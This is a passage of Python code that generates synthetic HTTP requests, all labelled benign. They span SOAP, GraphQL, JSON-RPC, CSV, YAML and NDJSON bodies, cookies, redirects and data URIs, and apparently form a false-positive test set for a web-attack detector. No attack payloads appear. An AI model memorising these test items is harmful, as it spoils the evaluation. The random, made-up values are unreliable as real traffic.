        {"_token": ralnum(40), "layout": js({"columns": [{"id": "name", "width": 240}, {"id": "email", "width": 300}], "density": "compact"}), "save": "1"},
        {"csrfmiddlewaretoken": ralnum(64), "address": js({"line1": "12 Rue de l'Église", "city": "Paris", "postcode": "75004", "country": "FR"}), "next": "/checkout/payment/"},
        {"form_id": "contact", "payload": js({"name": RNG.choice(NAMES), "message": RNG.choice(TEXTS), "consent": True}), "g-recaptcha-response": ralnum(400)},
        {"action": "wc_update_cart", "cart": js({rhex(32): {"qty": 2}, rhex(32): {"qty": 1}}), "security": rhex(10)},
        {"meta": js({"seo_title": "Top 10 hikes near Zürich", "og:image": "https://cdn.example.com/img/hike.jpg", "keywords": ["Wandern", "Alpen", "Schweiz"]}), "post_ID": "4412", "action": "editpost"},
    ]
    for i, f in enumerate(forms):
        add("benign", "json-in-form-field-%03d" % (i + 1), "benign", "POST", ["/settings/table", "/checkout/address/", "/contact", "/wp-admin/admin-ajax.php", "/wp-admin/post.php"][i],
            RNG.choice(["app.example.com", "shop.example.net", "blog.example.org"]), body=urlencode(f), extra=bx("shop.example.net", "/"))
    cookies = [
        "cart=%s" % q(js({"items": [{"sku": "TS-RED-M", "qty": 1}, {"sku": "CAP-01", "qty": 2}], "currency": "EUR"})),
        "ui_prefs=%s" % q(js({"theme": "dark", "sidebar": "collapsed", "tz": "Europe/Berlin", "lang": "de"})),
        "recently_viewed=%s" % q(js([RNG.randint(1000, 9999) for _ in range(5)])),
        "cookie_consent=%s" % q(js({"necessary": True, "analytics": False, "marketing": False, "v": 3, "ts": repoch()})),
        "ab_tests=%s; %s" % (q(js({"checkout_v2": "B", "pricing_page": "control"})), ga_cookie()),
    ]
    for i, c in enumerate(cookies):
        add("benign", "json-in-cookie-%03d" % (i + 1), "benign", "GET", RNG.choice(["/", "/products/trail-runner-3", "/cart", "/de/"]),
            "shop.example.net", extra=bx("shop.example.net", "/", c))


# --- \u escapes, HTML entities, stringified JSON in JSON bodies
@benign_section
def ben_json_escapes():
    bodies = [
        '{"name":"Jos\\u00e9 Garc\\u00eda","city":"M\\u00e1laga","note":"Llamar despu\\u00e9s de las 5"}',
        '{"title":"\\u65e5\\u672c\\u8a9e\\u306e\\u30bf\\u30a4\\u30c8\\u30eb","lang":"ja"}',
        '{"comment":"Love it \\ud83d\\ude0d\\ud83d\\udc4d","rating":5}',
        '{"company":"O\\u0027Reilly Media","contact":"Tim O\\u0027Brien"}',
        '{"html":"\\u003cp\\u003eHello \\u003cstrong\\u003eworld\\u003c/strong\\u003e\\u003c/p\\u003e","format":"html"}',
        js({"content": "<p>Caf&eacute; &amp; Bistro &ndash; open Mon&ndash;Fri</p>", "format": "html"}),
        js({"title": "Tom &amp; Jerry&#39;s &quot;Best&quot; Moments", "slug": "tom-and-jerry"}),
        js({"description": "Size: 10&quot; &times; 12&quot; &mdash; 100% cotton", "sku": "TW-1012"}),
        js({"event": "order_completed", "properties": js({"order_id": "A-%d" % RNG.randint(10000, 99999), "revenue": 129.9, "currency": "EUR"})}),
        js({"type": "message", "payload": js({"text": "See you at 10:00 (room 3B) -- bring the Q2 numbers", "mentions": ["@liam"]})}),
        js({"address": "Stra\u00dfe des 17. Juni 135", "name": "\u0141ukasz \u017b\u00f3\u0142kiewski"}),
        '{"path":"C:\\\\Users\\\\anna\\\\Documents\\\\Rechnung 2024.pdf","size":48213}',
        '{"regex_label":"Tab\\tSeparated\\nMulti-line","quote":"He said \\"ok\\""}',
    ]
    for i, b in enumerate(bodies):
        add("benign", "json-escapes-%03d" % (i + 1), "benign", "POST",
            RNG.choice(["/api/v1/contacts", "/api/posts", "/api/reviews", "/api/events", "/api/v1/files"]),
            "api.example.com", body=b, ctype="application/json; charset=utf-8", browser=False)


# --- SOAP requests of ERP systems, XML in JSON, JSON in CDATA
@benign_section
def ben_xml():
    ops = [
        ("ZSD_SALESORDER_GET", '<urn:ZSD_SALESORDER_GET xmlns:urn="urn:sap-com:document:sap:rfc:functions"><IV_VBELN>00%d</IV_VBELN><IV_LANGU>D</IV_LANGU></urn:ZSD_SALESORDER_GET>' % RNG.randint(10000000, 99999999)),
        ("BAPI_MATERIAL_GET_DETAIL", '<urn:BAPI_MATERIAL_GET_DETAIL xmlns:urn="urn:sap-com:document:sap:rfc:functions"><MATERIAL>MAT-4711</MATERIAL><PLANT>1000</PLANT></urn:BAPI_MATERIAL_GET_DETAIL>'),
        ("CreateInvoice", '<inv:CreateInvoice xmlns:inv="urn:example:erp:invoice:v1"><inv:Customer><inv:Name>O\'Brien &amp; Sons Ltd.</inv:Name><inv:VatId>IE6388047V</inv:VatId></inv:Customer><inv:Lines><inv:Line><inv:Sku>SRV-HOURS</inv:Sku><inv:Qty>12.5</inv:Qty><inv:Price currency="EUR">95.00</inv:Price></inv:Line></inv:Lines><inv:Notes><![CDATA[Payment within 30 days. Select "SEPA" as method; reference <INV-2024-118>.]]></inv:Notes></inv:CreateInvoice>'),
        ("GetStockLevel", '<ns2:GetStockLevel xmlns:ns2="http://ws.example.com/inventory"><warehouse>DE-HAM-01</warehouse><sku>ZB-22</sku><asOf>%s</asOf></ns2:GetStockLevel>' % rts()),
        ("UpdateCustomer", '<tns:UpdateCustomer xmlns:tns="urn:example:crm"><tns:Id>C-00918</tns:Id><tns:Name>Müller &amp; Söhne GmbH</tns:Name><tns:Street>Königsallee 12</tns:Street><tns:Comment>Delivery only Mon–Fri, 8:00–16:00</tns:Comment></tns:UpdateCustomer>'),
        ("CheckVat", '<urn:checkVat xmlns:urn="urn:ec.europa.eu:taxud:vies:services:checkVat:types"><urn:countryCode>DE</urn:countryCode><urn:vatNumber>%d</urn:vatNumber></urn:checkVat>' % RNG.randint(100000000, 999999999)),
        ("PostJournal", '<fin:PostJournal xmlns:fin="urn:example:finance"><fin:Entry><fin:Account>4400</fin:Account><fin:Debit>1190.00</fin:Debit><fin:Text>Rechnung 2024-0815 / Büromaterial</fin:Text></fin:Entry><fin:Entry><fin:Account>1200</fin:Account><fin:Credit>1190.00</fin:Credit></fin:Entry></fin:PostJournal>'),
    ]
    for i in range(14):
        name, body_xml = ops[i % len(ops)]
        sec = ""
        if i % 3 == 0:
            sec = ('<wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
                   '<wsse:UsernameToken><wsse:Username>svc_portal</wsse:Username><wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">%s</wsse:Password>'
                   '<wsse:Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary">%s</wsse:Nonce></wsse:UsernameToken></wsse:Security>') % (
                b64(bytes(RNG.getrandbits(8) for _ in range(20))), b64(bytes(RNG.getrandbits(8) for _ in range(16))))
        env = ('<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
               '<soapenv:Header>%s</soapenv:Header><soapenv:Body>%s</soapenv:Body></soapenv:Envelope>') % (sec, body_xml)
        if i % 2:
            ct, extra = 'application/soap+xml; charset=utf-8; action="urn:%s"' % name, None
        else:
            ct, extra = "text/xml; charset=UTF-8", [("SOAPAction", '"urn:%s"' % name)]
        add("benign", "soap-erp-%s-%03d" % (name.lower().replace("_", "-"), i + 1), "benign", "POST",
            RNG.choice(["/sap/bc/srt/rfc/sap/zws_orders/100/zws_orders/binding", "/ws/InvoiceService", "/services/CrmService"]),
            "erp.example.com", body=env, ctype=ct, extra=extra,
            ua=RNG.choice(["Apache-HttpClient/4.5.14 (Java/11.0.22)", "SAP NetWeaver Application Server (1.0;757)", "gSOAP/2.8", "Zeep/4.2.1 (www.python-zeep.org)"]))
    xml_json = [
        {"format": "ubl", "xml": '<?xml version="1.0" encoding="UTF-8"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"><cbc:ID>INV-2024-0042</cbc:ID><cbc:IssueDate>2024-06-03</cbc:IssueDate><cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode></Invoice>'},
        {"name": "icon-cart.svg", "svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M7 18c-1.1 0-2 .9-2 2s.9 2 2 2 2-.9 2-2-.9-2-2-2zM1 2v2h2l3.6 7.59L5.25 14c-.16.28-.25.61-.25.96 0 1.1.9 2 2 2h12v-2H7.42c-.14 0-.25-.11-.25-.25l.03-.12.9-1.63h7.45c.75 0 1.41-.41 1.75-1.03l3.58-6.49A1 1 0 0 0 20 4H5.21l-.94-2H1z"/></svg>'},
        {"feed": "https://news.example.org/rss", "sample": '<rss version="2.0"><channel><title>Example News</title><item><title>Budget vote &amp; what it means</title><link>https://news.example.org/a/123</link></item></channel></rss>'},
        {"template": "order-confirmation", "mjml": '<mjml><mj-body><mj-section><mj-column><mj-text>Hallo {{ customer.first_name }}, danke für Ihre Bestellung!</mj-text></mj-column></mj-section></mj-body></mjml>'},
        {"sitemapXml": '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://www.example.com/</loc><lastmod>2024-06-01</lastmod></url></urlset>'},
    ]
    for i, d in enumerate(xml_json):
        add("benign", "xml-in-json-%03d" % (i + 1), "benign", "POST", RNG.choice(["/api/documents", "/api/assets", "/api/feeds/test", "/api/templates"]),
            "docs.example.com", body=js(d), ctype="application/json", browser=False)
    for i in range(5):
        obj = {"orderId": "SO-%d" % RNG.randint(100000, 999999), "customer": RNG.choice(NAMES),
               "lines": [{"sku": "SKU-%d" % RNG.randint(100, 999), "qty": RNG.randint(1, 5)}], "note": RNG.choice(TEXTS)}
        x = ('<?xml version="1.0" encoding="UTF-8"?><message><header><source>webshop</source><created>%s</created></header>'
             '<payload type="application/json"><![CDATA[%s]]></payload></message>') % (rts(), js(obj))
        add("benign", "json-in-cdata-%03d" % (i + 1), "benign", "POST", "/integration/inbound", "esb.example.com",
            body=x, ctype="application/xml", browser=False)


# --- multipart with per-part Content-Transfer-Encoding; compressed bodies
@benign_section
def ben_multipart_compressed():
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000100000001008060000001ff3ff61")
    for i in range(8):
        bnd = boundary()
        img = png + bytes(RNG.getrandbits(8) for _ in range(RNG.randint(60, 160)))
        if i % 2 == 0:
            p = filepart("attachment", "scan-%04d.png" % RNG.randint(1, 9999), "image/png", b64(img), "base64")
        else:
            txt = RNG.choice(TEXTS) + "\nMit freundlichen Grüßen / Kind regards\n" + RNG.choice(NAMES) + "\n"
            p = filepart("attachment", "note.txt", "text/plain; charset=utf-8", qp_encode(txt), "quoted-printable")
        body = multipart([field("ticket_id", str(RNG.randint(10000, 99999))), field("subject", "Re: Invoice %d" % RNG.randint(100, 999)), p], bnd)
        add("benign", "multipart-cte-%s-%03d" % ("base64" if i % 2 == 0 else "qp", i + 1), "benign", "POST",
            "/helpdesk/tickets/reply", "helpdesk.example.com", body=body, ctype="multipart/form-data; boundary=" + bnd,
            extra=bx("helpdesk.example.com", "/helpdesk/tickets"))
    for i in range(3):
        bnd = "=_Part_%d_%d.%d" % (RNG.randint(1, 999), RNG.randint(10**8, 10**9), repoch())
        html = "<html><body><p>%s</p><p>--<br>%s</p></body></html>" % (RNG.choice(TEXTS), RNG.choice(NAMES))
        mime = ("From: %s <client@example.org>\r\nTo: support@example.com\r\nSubject: =?UTF-8?Q?R=C3=BCckfrage?=\r\nMIME-Version: 1.0\r\n"
                "Content-Type: multipart/alternative; boundary=\"%s\"\r\n\r\n--%s\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n"
                "--%s\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--%s--\r\n") % (
            RNG.choice(NAMES), bnd, bnd, qp_encode(RNG.choice(TEXTS)), bnd, b64(html), bnd)
        add("benign", "mime-inbound-email-webhook-%03d" % (i + 1), "benign", "POST", "/hooks/inbound-email", "helpdesk.example.com",
            body=js({"sender": "client@example.org", "raw_mime": mime, "spam_score": round(RNG.random(), 2)}), ctype="application/json", browser=False)
    comp = [
        ("gzip", "application/json", "/api/v1/sync", js({"device": ruuid(), "changes": [{"id": RNG.randint(1, 9999), "title": RNG.choice(TEXTS), "updated": rts()} for _ in range(6)]})),
        ("gzip", "application/x-ndjson", "/ingest/v1/batch", "\n".join(js({"ts": rts(), "level": "info", "msg": "GET /api/items 200 %dms" % RNG.randint(3, 400)}) for _ in range(8)) + "\n"),
        ("deflate", "application/json", "/collect", js({"events": [{"name": "page_view", "url": "https://www.example.com/de/produkte?seite=2"}, {"name": "scroll", "depth": 75}]})),
        ("gzip", "text/csv", "/api/import/csv", "sku,name,price\r\nA-1,\"Kaffeebecher, 300ml\",7.90\r\nA-2,Teekanne,24.50\r\n"),
        ("gzip", "application/xml", "/ws/InvoiceService", '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><GetInvoice xmlns="urn:example:erp"><Id>4711</Id></GetInvoice></soapenv:Body></soapenv:Envelope>'),
        ("deflate", "application/json", "/api/telemetry", js({"app": "desktop", "version": "3.4.1", "crash": False, "metrics": {"startup_ms": 812, "mem_mb": 341}})),
    ]
    for i, (enc, ct, path, body) in enumerate(comp):
        add_raw("benign", "%s-body-%03d" % (enc, i + 1), "benign", "POST", path, "api.example.com", ct, body, enc)


# --- CSV / TSV uploads of customer data
@benign_section
def ben_csv():
    for i in range(10):
        kind = "tsv" if i % 4 == 3 else "csv"
        sep = "," if kind == "csv" else "\t"
        hdr = ["id", "name", "email", "phone", "company", "balance", "notes"]
        rows = [sep.join(hdr)]
        for r in range(RNG.randint(3, 8)):
            nm = RNG.choice(NAMES)
            phone = RNG.choice(["+44 20 7946 0%03d" % RNG.randint(0, 999), "+49 30 901820%02d" % RNG.randint(0, 99), "(555) 010-%04d" % RNG.randint(0, 9999), "-"])
            bal = RNG.choice(["-12.50", "1,204.00", "0", "350.75", "-0.99"])
            note = RNG.choice(["", "VIP", "Prefers email; no calls", "Select plan: Pro", "@mention account manager", "Paid -- see ref 2024/118", "Drop table delivery (furniture)"])
            cells = [str(1000 + r), nm, "%s@example.com" % nm.split()[0].lower().replace("'", ""), phone,
                     RNG.choice(["O'Reilly & Partners", "Example GmbH", "Acme, Inc.", "Société Générale d'Exemple"]), bal, note]
            if kind == "csv":
                cells = ['"%s"' % c.replace('"', '""') if ("," in c or '"' in c) else c for c in cells]
            rows.append(sep.join(cells))
        data = "\r\n".join(rows) + "\r\n"
        ctype = "text/csv" if kind == "csv" else "text/tab-separated-values"
        if i % 3 == 2:
            add("benign", "%s-upload-raw-%03d" % (kind, i + 1), "benign", "POST", "/api/contacts/import?format=%s&dedupe=email" % kind,
                "crm.example.org", body=data, ctype=ctype + "; charset=utf-8", browser=False)
        else:
            bnd = boundary()
            body = multipart([field("list_id", str(RNG.randint(100, 999))),
                              filepart("file", "export-2024-%02d.%s" % (RNG.randint(1, 12), kind), ctype, data),
                              field("has_header", "true")], bnd)
            add("benign", "%s-upload-multipart-%03d" % (kind, i + 1), "benign", "POST", "/contacts/import", "crm.example.org",
                body=body, ctype="multipart/form-data; boundary=" + bnd, extra=bx("crm.example.org", "/contacts"))
    add("benign", "csv-upload-b64-json-011", "benign", "POST", "/api/imports", "crm.example.org", browser=False,
        body=js({"filename": "leads.csv", "contentBase64": b64("first_name,last_name,city\r\nSiobhan,O'Brien,Cork\r\nZoë,Müller,Köln\r\n")}),
        ctype="application/json")


# --- YAML configs, NDJSON shipping, GraphQL, JSON-RPC, Protobuf-JSON
@benign_section
def ben_yaml_ndjson():
    yamls = [
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  labels:\n    app: web\nspec:\n  replicas: 3\n  selector:\n    matchLabels:\n      app: web\n  template:\n    metadata:\n      labels:\n        app: web\n    spec:\n      containers:\n        - name: web\n          image: registry.example.com/web:1.14.2\n          ports:\n            - containerPort: 8080\n",
        "openapi: 3.0.3\ninfo:\n  title: Orders API\n  version: 1.2.0\npaths:\n  /orders/{id}:\n    get:\n      parameters:\n        - name: id\n          in: path\n          required: true\n          schema:\n            type: string\n      responses:\n        '200':\n          description: OK\n",
        "site:\n  title: \"Café Olé -- Menü\"\n  locale: de_DE\n  timezone: Europe/Berlin\nnav:\n  - {label: Start, url: /}\n  - {label: Über uns, url: /ueber-uns}\nfooter: >\n  © 2024 Example GmbH. Alle Rechte vorbehalten.\n",
        "version: '3.9'\nservices:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_DB: app\n      POSTGRES_USER: app\n    volumes:\n      - pgdata:/var/lib/postgresql/data\n  api:\n    build: .\n    depends_on: [db]\n    ports: ['8000:8000']\nvolumes:\n  pgdata: {}\n",
        "feature_flags:\n  new_checkout: true\n  dark_mode: false\nrate_limits:\n  default: 100/minute\n  search: 20/second\nnotify:\n  email: ops@example.com\n  slack_channel: '#alerts'\n",
        "translations:\n  greeting: \"Hallo, %{name}!\"\n  farewell: 'Auf Wiedersehen'\n  cart_items:\n    one: \"1 Artikel\"\n    other: \"%{count} Artikel\"\n",
        "---\n# Dependabot\nversion: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n    schedule:\n      interval: weekly\n    ignore:\n      - dependency-name: \"@types/*\"\n",
    ]
    cts = ["application/yaml", "application/x-yaml", "text/yaml"]
    for i, y in enumerate(yamls):
        if i % 3 == 2:
            add("benign", "yaml-config-b64-json-%03d" % (i + 1), "benign", "PUT", "/api/v1/configs/%s" % RNG.choice(["site", "flags", "deploy"]),
                "ops.example.com", body=js({"encoding": "base64", "content": b64(y), "message": "update config"}), ctype="application/json", browser=False)
        else:
            add("benign", "yaml-config-body-%03d" % (i + 1), "benign", "POST", RNG.choice(["/api/v1/configs", "/apis/apps/v1/namespaces/default/deployments", "/api/specs/validate"]),
                "ops.example.com", body=y, ctype=cts[i % 3], browser=False)
    # NDJSON: Filebeat/Vector-style log shipping and ES bulk
    for i in range(6):
        lines = []
        for _ in range(RNG.randint(3, 7)):
            lines.append(js({"@timestamp": rts(), "host": {"name": "web-%02d" % RNG.randint(1, 12)}, "log": {"level": RNG.choice(["info", "warn", "error"])},
                             "http": {"request": {"method": RNG.choice(["GET", "POST"])}, "response": {"status_code": RNG.choice([200, 201, 304, 404, 502])}},
                             "url": {"path": RNG.choice(["/api/orders", "/login", "/static/app.js", "/search"]), "query": RNG.choice(["q=red+shoes", "page=2", "", "lang=de"])},
                             "message": RNG.choice(["upstream timed out", "request completed", "cache miss", "user logged in", "slow query: 812ms"])}))
        add("benign", "ndjson-log-shipping-%03d" % (i + 1), "benign", "POST", "/ingest/v1/logs", "collector.example.net",
            body="\n".join(lines) + "\n", ctype="application/x-ndjson", ua=RNG.choice(["Vector/0.38.0 (x86_64-unknown-linux-gnu)", "Fluent-Bit", "Go-http-client/1.1"]))
    for i in range(4):
        lines = []
        for _ in range(3):
            lines.append(js({"index": {"_index": "products-v3", "_id": str(RNG.randint(1000, 9999))}}))
            lines.append(js({"name": RNG.choice(["Kaffeemühle", "Trail shoe", "Chaise longue", "Waterproof jacket"]), "price": round(RNG.uniform(5, 300), 2), "tags": ["sale"], "updated": rts()}))
        add("benign", "ndjson-es-bulk-%03d" % (i + 1), "benign", "POST", "/_bulk?refresh=wait_for", "search.example.com",
            body="\n".join(lines) + "\n", ctype="application/x-ndjson", ua="elasticsearch-py/8.14.0 (Python/3.12.3; elastic-transport/8.13.1)")
    msearch = js({"index": "orders"}) + "\n" + js({"query": {"term": {"customer_id": 1042}}, "size": 5}) + "\n" + js({"index": "tickets"}) + "\n" + js({"query": {"match": {"subject": "refund"}}}) + "\n"
    add("benign", "ndjson-es-msearch-001", "benign", "POST", "/_msearch", "search.example.com", body=msearch, ctype="application/x-ndjson",
        ua="Kibana/8.14.1")
    seg = "\n".join(js({"type": "track", "event": e, "userId": "u_%d" % RNG.randint(1, 9999), "timestamp": rts(), "properties": {"plan": "pro"}}) for e in ["Signed In", "Report Exported", "Invite Sent"]) + "\n"
    add("benign", "ndjson-analytics-batch-001", "benign", "POST", "/v1/import", "events.example.com", body=seg, ctype="application/x-ndjson", browser=False)


@benign_section
def ben_rpc():
    gql = [
        ("query ProductPage($slug: String!, $locale: Locale!) { product(slug: $slug, locale: $locale) { id name price { amount currency } images { url alt } } }", {"slug": "chaise-longue-oak", "locale": "FR"}),
        ("mutation AddToCart($input: CartLineInput!) { cartLinesAdd(input: $input) { cart { id totalQuantity } userErrors { field message } } }", {"input": {"merchandiseId": "gid://shopify/ProductVariant/%d" % RNG.randint(10**12, 10**13), "quantity": 2}}),
        ("query Search($q: String!, $first: Int) { search(query: $q, first: $first) { edges { node { id title } } } }", {"q": "select shoes size 42", "first": 20}),
        ("mutation UpdateProfile($bio: String) { updateProfile(bio: $bio) { id bio } }", {"bio": "Backend dev @ Example. I like <3 Rust & Postgres; opinions my own."}),
        ("query Issues($owner: String!, $name: String!) { repository(owner: $owner, name: $name) { issues(first: 10, states: OPEN) { nodes { number title } } } }", {"owner": "example", "name": "palisade-docs"}),
        ("mutation CreateComment($postId: ID!, $text: String!) { createComment(postId: $postId, text: $text) { id } }", {"postId": "UG9zdDoxMjM0", "text": "Danke für den Artikel! Très utile 👍"}),
        ("query Orders($filter: OrderFilter) { orders(filter: $filter) { totalCount nodes { id status } } }", {"filter": {"status": {"in": ["PAID", "SHIPPED"]}, "createdAt": {"gte": "2024-01-01"}}}),
        ("query Me { me { id email roles } }", {}),
    ]
    for i, (qry, v) in enumerate(gql):
        op = qry.split("(")[0].split("{")[0].split()[-1]
        if i % 4 == 3:
            add("benign", "graphql-get-%03d" % (i + 1), "benign", "GET", "/graphql?query=%s&variables=%s&operationName=%s" % (q(qry), q(js(v)), op),
                "api.example.com", browser=False)
        else:
            add("benign", "graphql-post-%03d" % (i + 1), "benign", "POST", "/graphql", "api.example.com",
                body=js({"operationName": op, "query": qry, "variables": v}), ctype="application/json", browser=False,
                extra=[("apollographql-client-name", "web"), ("apollographql-client-version", "2.31.0")])
    # persisted query (APQ)
    add("benign", "graphql-apq-001", "benign", "GET", "/graphql?operationName=Feed&variables=%s&extensions=%s" % (
        q(js({"first": 10, "after": b64("arrayconnection:29")})), q(js({"persistedQuery": {"version": 1, "sha256Hash": rhex(64)}}))), "api.example.com", browser=False)
    rpc = [
        ("eth_call", [{"to": "0x" + rhex(40), "data": "0x70a08231000000000000000000000000" + rhex(40)}, "latest"]),
        ("eth_getBalance", ["0x" + rhex(40), "latest"]),
        ("eth_sendRawTransaction", ["0xf86c" + rhex(212)]),
        ("call", {"service": "object", "method": "execute_kw", "args": ["prod", 2, "********", "res.partner", "search_read", [[["is_company", "=", True], ["country_id.code", "=", "DE"]]], {"fields": ["name", "email"], "limit": 20}]}),
        ("getblockchaininfo", []),
        ("Player.GetActivePlayers", {}),
        ("textDocument/completion", {"textDocument": {"uri": "file:///home/dev/app/main.py"}, "position": {"line": 12, "character": 8}}),
        ("invoice.create", [{"customer": "O'Brien Consulting", "lines": [{"desc": "Beratung", "qty": 8, "rate": 120}]}]),
    ]
    for i, (m, params) in enumerate(rpc):
        body = js({"jsonrpc": "2.0", "id": i + 1, "method": m, "params": params})
        if i == 2:
            body = "[" + body + "," + js({"jsonrpc": "2.0", "id": 99, "method": "eth_blockNumber", "params": []}) + "]"
        add("benign", "jsonrpc-%s-%03d" % (m.split("/")[-1].split(".")[-1].lower().replace("_", "-"), i + 1), "benign", "POST",
            RNG.choice(["/jsonrpc", "/rpc", "/"]), "rpc.example.com", body=body, ctype="application/json", browser=False)
    pb = [
        {"parent": "projects/p1/locations/europe-west1", "pageSize": 50, "pageToken": b64(bytes(RNG.getrandbits(8) for _ in range(24))), "filter": "labels.env = \"prod\" AND state = ACTIVE"},
        {"userId": "9007199254740993", "event": {"type": "PURCHASE", "amountMicros": "12990000", "currencyCode": "EUR"}, "clientTime": rts()},
        {"name": "projects/p1/instances/db-1", "updateMask": "settings.tier,settings.backupConfiguration", "instance": {"settings": {"tier": "db-custom-2-7680"}}},
        {"document": {"fields": {"title": {"stringValue": "Meeting notes"}, "count": {"integerValue": "12"}}}, "thumbnail": b64(bytes(RNG.getrandbits(8) for _ in range(90)))},
        {"@type": "type.googleapis.com/example.v1.Order", "id": "ord_%s" % ralnum(14), "createTime": rts(), "duration": "3.5s", "fieldMask": "status"},
    ]
    for i, d in enumerate(pb):
        add("benign", "protobuf-json-%03d" % (i + 1), "benign", "POST", RNG.choice(["/v1/projects/p1/resources:search", "/v1/events:batchWrite", "/v1/projects/p1/instances/db-1:patch"]),
            "grpc-gw.example.com", body=js(d), ctype="application/json", browser=False, extra=[("X-Goog-Api-Client", "gl-python/3.12.3 grpc/1.64.0")])
    # gRPC-web binary framed protobuf, base64 text mode
    for i in range(3):
        msg = bytes([0x0a, 0x06]) + b"ord_%02d" % i + bytes([0x10, RNG.randint(1, 120), 0x1a, 0x05]) + b"de-DE"
        frame = b"\x00" + len(msg).to_bytes(4, "big") + msg
        add("benign", "grpc-web-text-%03d" % (i + 1), "benign", "POST", "/example.orders.v1.OrderService/GetOrder", "grpc-gw.example.com",
            body=b64(frame), ctype="application/grpc-web-text", extra=[("X-Grpc-Web", "1"), ("X-User-Agent", "grpc-web-javascript/0.1")])


# --- encoded redirect URLs, nested query strings, hex params, data: URIs, analytics beacons
@benign_section
def ben_urls():
    targets = ["https://www.example.com/checkout?step=2&cart=%s" % ralnum(10), "https://docs.example.org/de/api/v2/auth#token-refresh",
               "/account/orders?status=open&page=3", "https://partner.example.net/sso/landing?lang=fr&ref=newsletter",
               "/search?q=%s&sort=relevance" % q("Blaue Jacke, wasserdicht"), "https://app.example.com/projects/42/board?view=kanban&filter=assignee%3Ame",
               "/de/produkte/kaffee?sorte=arabica&r%C3%B6stung=mittel", "https://shop.example.net/p/Chaise-Longue%20Oak?variant=12"]
    for i, t in enumerate(targets):
        style = i % 4
        if style == 0:
            uri = "/login?returnUrl=%s" % q(t)
        elif style == 1:
            uri = "/logout?redirect_uri=%s&client_id=portal" % q(t)
        elif style == 2:
            uri = "/sso/start?next=%s" % qq(t)
        else:
            uri = "/r?u=%s&sig=%s" % (b64url(t), rhex(16))
        add("benign", "redirect-encoded-%03d" % (i + 1), "benign", "GET", uri, "auth.example.com", extra=bx("www.example.com", "/"))
    for i in range(8):
        inner = {"utm_source": RNG.choice(["google", "newsletter", "linkedin", "partner_x"]), "utm_medium": RNG.choice(["cpc", "email", "social"]),
                 "utm_campaign": RNG.choice(["spring_sale_2024", "b2b-webinar-06", "brand|de|exact"]), "gclid": ralnum(40)}
        if i % 2:
            body = urlencode({"form": "lead", "email": "lead%d@example.org" % i, "name": RNG.choice(NAMES), "tracking_qs": urlencode(inner),
                              "landing": "https://www.example.com/lp/demo?" + urlencode(inner)})
            add("benign", "nested-qs-form-%03d" % (i + 1), "benign", "POST", "/forms/submit", "www.example.com", body=body,
                extra=bx("www.example.com", "/lp/demo"))
        else:
            add("benign", "nested-qs-query-%03d" % (i + 1), "benign", "GET",
                "/api/attribution?qs=%s&ref=%s" % (q(urlencode(inner)), q("https://www.google.com/")), "www.example.com", browser=False)
    # hex parameters: hashes, colours, addresses, device ids
    hexp = [
        "/api/files/sha256/%s" % hashlib.sha256(rhex(20).encode()).hexdigest(),
        "/theme/preview?primary=%s&accent=%s" % (rhex(6), rhex(6)),
        "/api/wallets/0x%s/balance?chain=1" % rhex(40),
        "/api/devices?serial=%s&fw=%s" % (rhex(16).upper(), rhex(8)),
        "/verify?email=%s&token=%s" % (q("anna.k@example.com"), rhex(64)),
        "/api/tx?hash=0x%s" % rhex(64),
        "/img/%s/%s.webp?w=640" % (rhex(2), rhex(32)),
        "/api/v1/nfc/read?uid=04%s&data=%s" % (rhex(12).upper(), hexs("Hello, Zürich!")),
    ]
    for i, u in enumerate(hexp):
        add("benign", "hex-param-%03d" % (i + 1), "benign", "GET", u, "api.example.com", browser=False)
    # data: URIs (avatars, signature pads, favicons)
    for i in range(6):
        img = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000020000000200806000000737a7af4") + bytes(RNG.getrandbits(8) for _ in range(RNG.randint(100, 300)))
        uri = "data:image/png;base64," + b64(img)
        if i % 3 == 0:
            add("benign", "datauri-avatar-json-%03d" % (i + 1), "benign", "POST", "/api/profile/avatar", "app.example.com",
                body=js({"image": uri, "crop": {"x": 0, "y": 0, "w": 32, "h": 32}}), ctype="application/json", browser=False)
        elif i % 3 == 1:
            add("benign", "datauri-signature-form-%03d" % (i + 1), "benign", "POST", "/contracts/%d/sign" % RNG.randint(100, 999), "sign.example.com",
                body=urlencode({"signature": uri, "signed_name": RNG.choice(NAMES), "agree": "on"}), extra=bx("sign.example.com", "/contracts"))
        else:
            svg = "data:image/svg+xml;charset=utf-8," + q('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16"><circle cx="8" cy="8" r="7" fill="#%s"/></svg>' % rhex(6))
            add("benign", "datauri-svg-icon-json-%03d" % (i + 1), "benign", "PATCH", "/api/workspaces/%d" % RNG.randint(1, 300), "app.example.com",
                body=js({"icon": svg, "name": "Marketing DE"}), ctype="application/json", browser=False)


@benign_section
def ben_analytics():
    for i in range(5):
        params = [("v", "2"), ("tid", "G-%s" % ralnum(10).upper()), ("gtm", "45je46%s" % ralnum(4).lower()), ("_p", str(RNG.randint(10**9, 10**10))),
